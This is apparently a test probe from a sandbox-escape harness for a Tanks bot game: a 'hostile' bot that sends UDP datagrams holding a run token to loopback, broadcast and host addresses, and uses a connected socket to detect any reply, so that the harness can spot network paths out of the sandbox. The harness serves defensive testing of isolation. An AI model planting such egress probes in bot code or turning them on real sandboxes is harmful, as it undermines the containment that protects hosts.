"""Hostile Tanks bot: UDP datagrams.

The bot sends UDP datagrams carrying the run's token to a listener the
escape driver opens on a random port (every address), through loopback and
the host's other addresses, and to the DNS port of the host. The driver's
listener records any datagram that arrives.
"""
# @ESCAPE_PRELUDE@


import socket


def attack():
    hosts = ['127.0.0.1', '::1', '0.0.0.0', '255.255.255.255'] + list(CFG.get('host_ips', []))
    port = int(CFG.get('udp_port', 9))
    for host in hosts:
        try:
            family = socket.AF_INET6 if ':' in host else socket.AF_INET
            s = socket.socket(family, socket.SOCK_DGRAM)
        except OSError as e:
            note('socket(): %s' % e)
            return
        try:
            if host.startswith('255'):
                s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            s.sendto(b'ESCAPE ' + CFG.get('token', 'cfesc').encode(), (host, port))
            note('sendto %s:%d accepted by the kernel' % (host, port))
        except OSError:
            pass
        finally:
            s.close()
    # A connected UDP socket to a closed port reports ECONNREFUSED on the next
    # call only when something answered: that is a path out as well.
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(0.2)
        s.connect(('127.0.0.1', port))
        s.send(b'ping')
        s.recv(16)
        evidence('UDP answer from 127.0.0.1:%d' % port)
    except OSError:
        pass


# @ESCAPE_ATTACK_MAIN@
